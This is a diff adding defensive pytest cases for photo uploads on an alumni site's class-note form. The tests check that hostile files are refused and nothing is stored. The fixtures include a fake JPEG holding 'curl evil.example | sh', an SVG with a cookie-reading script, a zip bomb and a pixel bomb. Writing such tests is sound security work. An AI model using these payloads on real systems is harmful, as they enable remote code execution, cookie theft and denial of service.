@@ -3,14 +3,18 @@
 from __future__ import annotations
 
 import http.client
+import io
 import json
 import socket
+import zipfile
 from dataclasses import dataclass, field
 from urllib.parse import urlencode, urlsplit
 
 import pytest
+from PIL import Image
 
 from core.tables import read_records
+from tests.support import multipart
 
 GOOD = {
     "name": "王小明",
@@ -326,3 +330,105 @@ def test_a_late_registration_is_refused_with_the_deadline_even_from_a_stale_page
         "en": "Registration closed on 2026-12-05",
     }
     assert read_records(late.inbox / "event-registration-v1.csv") == []
+
+
+# Photos sent with a class note (forms/photos.py): a hostile upload is a 4xx with a sentence,
+# and neither its row nor any file of it is stored.
+
+NOTE = {"class_year": "1992", "college": "化学学院", "author": "九二级化学班", "title": "三十年后再相聚",
+        "body": "今年秋天，我们班二十多位同学回到化学楼，在当年的实验室门口合影留念。", "email": "note@example.com",
+        "photo_alt": "二十多位同学在化学楼前合影", "consent": "yes"}  # fmt: skip
+SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
+)
+
+
+def jpeg(size: tuple[int, int] = (320, 240)) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, (200, 120, 60)).save(out, "JPEG")
+    return out.getvalue()
+
+
+def hundred_megapixels() -> bytes:
+    """A real 10,000 × 10,000 PNG: 12 KB on the wire, 300 MB once decoded as a photo."""
+    out = io.BytesIO()
+    Image.new("1", (10000, 10000)).save(out, "PNG")
+    return out.getvalue()
+
+
+def zip_bomb() -> bytes:
+    """200 MB of zeros deflated into a zip of about 200 KB."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("photos.png", "w") as member,
+    ):
+        for _ in range(200):
+            member.write(bytes(2**20))
+    return out.getvalue()
+
+
+PHOTO_CASES = {
+    "a script disguised as a JPEG": ([("IMG_2031.jpg", b"#!/bin/sh\ncurl evil.example | sh\n\xff\xd8\xff\xe0")], 422, "cannot be opened as a photo"),
+    "an SVG with a script": ([("logo.svg", SVG)], 422, "“logo.svg” is not a photo"),
+    "an SVG with a script named as a JPEG": ([("logo.jpg", SVG)], 422, "“logo.jpg” cannot be opened as a photo"),
+    "a 100-megapixel PNG": ([("panorama.png", hundred_megapixels())], 422, "has too many pixels (100 megapixels, at most 50 million)"),
+    "a zip bomb named as a PNG": ([("photos.png", zip_bomb())], 422, "“photos.png” cannot be opened as a photo"),
+    "a real photo with a wrong extension": ([("photo.php", jpeg())], 422, "“photo.php” is not a photo"),
+    "four photos where three are taken": ([(f"{n}.jpg", jpeg()) for n in range(4)], 422, "At most 3 photos can be sent; you chose 4"),
+    "a photo over 10 MB": ([("huge.jpg", jpeg() + bytes(10 * 2**20))], 422, "“huge.jpg” is too large: each photo may be at most 10 MB"),
+}  # fmt: skip
+
+
+def stored_notes(handler) -> tuple[list[dict], list[str]]:
+    photos = handler.inbox / "photos"
+    files = sorted(str(p.relative_to(photos)) for p in photos.rglob("*")) if photos.exists() else []
+    return read_records(handler.inbox / "class-note-v2.csv"), files
+
+
+@pytest.mark.parametrize("name", PHOTO_CASES)
+def test_a_hostile_photo_gets_a_sentence_and_nothing_is_stored(handler, name):
+    files, status, words = PHOTO_CASES[name]
+    before = stored_notes(handler)
+    body, content_type = multipart(NOTE, files)
+    answer, _, text = request(handler.url, Case(body, status, content_type, path="/api/forms/class-note"))
+    assert answer == status, text
+    error = json.loads(text)["errors"]["photos"]
+    assert words in error["en"] and error["zh"]
+    assert stored_notes(handler) == before
+
+
+def test_the_same_note_with_a_real_photo_is_taken(handler):
+    body, content_type = multipart(NOTE, [("IMG_2031.jpg", jpeg((800, 600)))])
+    status, _, text = request(handler.url, Case(body, 201, content_type, path="/api/forms/class-note"))
+    assert status == 201, text
+    rows, files = stored_notes(handler)
+    submission = json.loads(text)["id"]
+    assert rows[-1]["id"] == submission and rows[-1]["photos"] == "1.jpg"
+    assert f"{submission}/1.jpg" in files
+
+
+def test_a_body_over_the_forms_photo_limit_is_refused_before_it_is_sent(handler):
+    """3 photos of 10 MB and the text: a body of 40 MB is refused from its headers alone."""
+    parts = urlsplit(handler.url)
+    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
+        sock.sendall(b"POST /api/forms/class-note HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n"
+                     b"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 40000000\r\n\r\n")  # fmt: skip
+        received = b""
+        while b"}}" not in received:  # the status line and the sentence may come in two reads
+            chunk = sock.recv(4096)
+            if not chunk:
+                break
+            received += chunk
+        answer = received.decode("utf-8", "replace")
+    assert answer.startswith("HTTP/1.1 413") and "The submission is too large (limit 30 MB)" in answer
+
+
+def test_a_bot_sending_photos_is_answered_alike_and_none_of_them_is_kept(handler):
+    body, content_type = multipart(
+        {**NOTE, "website": "http://spam.example", "title": "推广"}, [("ad.jpg", jpeg())]
+    )
+    status, _, text = request(handler.url, Case(body, 201, content_type, path="/api/forms/class-note"))
+    assert status == 201 and json.loads(text)["id"] == "0"
+    [row] = [r for r in read_records(handler.inbox / "spam" / "class-note-v2.csv") if r["title"] == "推广"]
+    assert row["photos"] == "" and not (handler.inbox / "photos" / row["id"]).exists()
